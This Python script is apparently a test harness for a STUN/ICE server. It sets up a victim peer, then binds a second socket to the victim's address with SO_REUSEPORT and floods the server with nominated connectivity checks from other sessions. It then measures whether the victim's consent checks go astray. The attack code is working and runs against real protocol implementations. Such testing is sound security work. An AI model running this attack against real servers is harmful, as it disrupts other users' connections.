"""Checks that are authentic for the attacker's own session, with the address of somebody else as their source.

The two share an address by SO_REUSEPORT, which needs no privileges. What the server sends goes to the victim alone, whose
socket is connected.
"""

import socket
import threading
import time

import stun

# So long the victim's connection is given to come about, and so long its checks are counted afterwards, in seconds: at
# least twice the time between two questions for consent.
SETTLES = 8
COUNTED = 13

# Consent is asked for every 4 to 6 s; one that is not answered has the server ask every second.
MOST = 5


class Victim(threading.Thread):
    """A peer that answers the server's checks, makes its own, and counts what it is asked."""

    def __init__(self, server):
        super().__init__(daemon=True)
        self.session = stun.Session(server)
        self.socket = shared(("127.0.0.1", 0))
        self.address = self.socket.getsockname()
        self.server = (server.host, server.port)
        self.socket.connect(self.server)
        self.socket.settimeout(0.1)
        self.ended = threading.Event()
        self.asked = []

    def run(self):
        next_check = 0.0
        while not self.ended.is_set():
            if time.monotonic() >= next_check:
                next_check = time.monotonic() + 1
                self.socket.send(self.session.check(nominates=True))
            try:
                datagram = self.socket.recv(2048)
            except OSError:
                continue
            answer = self.session.answer(datagram, self.server)
            if answer and b":" + self.session.theirs[0].encode() in datagram:
                self.asked.append(time.monotonic())
                self.socket.send(answer)

    def asked_since(self, begin):
        return sum(1 for at in self.asked if at >= begin)


def shared(address):
    made = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    made.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
    made.bind(address)
    return made


def attack(server):
    victim = Victim(server)
    victim.start()
    time.sleep(SETTLES)
    before = victim.asked_since(0)
    sessions = [stun.Session(server) for _ in range(4)]
    thief = shared(victim.address)
    for _ in range(50):
        for session in sessions:
            thief.sendto(session.check(nominates=True), (server.host, server.port))
        time.sleep(0.01)
    time.sleep(1)
    begin = time.monotonic()
    time.sleep(COUNTED)
    after = victim.asked_since(begin)
    victim.ended.set()
    victim.join()
    thief.close()
    harm = []
    if before == 0:
        harm.append("the victim never came to a connection")
    elif after > MOST:
        harm.append(f"the victim's answers went astray: it was asked {after} times in {COUNTED} s")
    return {"asked before": before, "asked after": after, "harm": harm}
